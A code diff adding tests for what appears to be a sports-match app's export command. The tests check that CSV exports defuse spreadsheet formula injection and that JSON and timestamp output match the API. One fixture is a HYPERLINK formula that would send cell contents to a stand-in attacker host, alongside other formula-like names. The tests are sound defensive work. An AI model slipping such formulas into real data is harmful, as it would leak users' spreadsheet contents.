@@ -18,6 +18,7 @@ from fastapi.testclient import TestClient
 from backend.app import create_app
 from backend.db.engine import create_db_engine
 from backend.db.migrate import upgrade
+from backend.ops import admin
 from backend.settings import Settings
 from tests import factories
 from tests.databases import fresh_database
@@ -167,3 +168,72 @@ def test_operator_commands_on_a_live_database(kind: str, tmp_path: Path) -> None
             assert client.get("/api/teams", headers=device).status_code == 401
             gone = client.get("/api/watch", headers=watch)
             assert gone.status_code == 410, gone.text
+
+
+@pytest.mark.parametrize("kind", ["sqlite", "postgresql"])
+def test_match_export_neutralises_formulas_and_writes_times_as_the_api_does(
+    kind: str, tmp_path: Path
+) -> None:
+    hyperlink = '=HYPERLINK("https://evil.example/?leak="&A1,"Click me")'
+    with fresh_database(kind, tmp_path) as url:
+        engine = create_db_engine(url)
+        upgrade(engine)
+        engine.dispose()
+        with _api(url) as client:
+            device = factories.coach(client)
+            team_id = factories.team(client, device)
+            names = [hyperlink, "+44 7700 900123", "-2+3", "@SUM(A1:A9)", "Sam"]
+            players = [
+                client.post(
+                    f"/api/teams/{team_id}/players",
+                    json={"squad_number": number, "display_name": name, "full_name": name},
+                    headers=device,
+                ).json()["id"]
+                for number, name in enumerate(names, start=1)
+            ]
+            match_id = factories.match(client, device, team_id, kickoff_at="2026-11-21T10:30:00Z")
+            logged = [
+                factories.event(client, device, match_id, "kick_off", minute=0, note=hyperlink)
+            ]
+            logged += [
+                factories.event(
+                    client,
+                    device,
+                    match_id,
+                    "goal",
+                    minute=minute,
+                    player_id=player,
+                    recorded_at=f"2026-11-21T10:{30 + minute}:07.25+00:00",
+                )
+                for minute, player in enumerate(players, start=1)
+            ]
+            api_match = client.get(f"/api/matches/{match_id}", headers=device).json()
+
+        db = ("--database-url", url)
+        exported_csv, exported_json = _run_all(
+            ("match", "export", match_id, *db),
+            ("match", "export", match_id, "--format", "json", *db),
+        )
+    rows = list(csv.DictReader(io.StringIO(_ok(exported_csv))))
+    assert rows[0]["note"] == "'" + hyperlink
+    assert [(r["player"], r["squad_number"], r["minute"]) for r in rows[1:]] == [
+        ("'" + hyperlink, "1", "1"),
+        ("'+44 7700 900123", "2", "2"),
+        ("'-2+3", "3", "3"),
+        ("'@SUM(A1:A9)", "4", "4"),
+        ("Sam", "5", "5"),
+    ]
+    assert [r["recorded_at"] for r in rows] == [e["recorded_at"] or "" for e in logged]
+    assert rows[1]["recorded_at"] == "2026-11-21T10:31:07.250000Z"
+    document = json.loads(_ok(exported_json))
+    kickoff = document["match"]["kickoff_at"]
+    assert kickoff == api_match["match"]["kickoff_at"] == "2026-11-21T10:30:00Z"
+    # JSON is no spreadsheet: its text is exactly what was typed.
+    assert document["events"][0]["note"] == hyperlink
+    assert [e["recorded_at"] for e in document["events"]] == [e["recorded_at"] for e in logged]
+
+
+def test_negative_numbers_in_a_csv_export_stay_numbers() -> None:
+    export = {"events": [{"minute": -3, "stoppage": -1, "note": "-3", "kind": "goal"}]}
+    rows = list(csv.DictReader(io.StringIO(admin._as_csv(export))))
+    assert (rows[0]["minute"], rows[0]["stoppage"], rows[0]["note"]) == ("-3", "-1", "'-3")
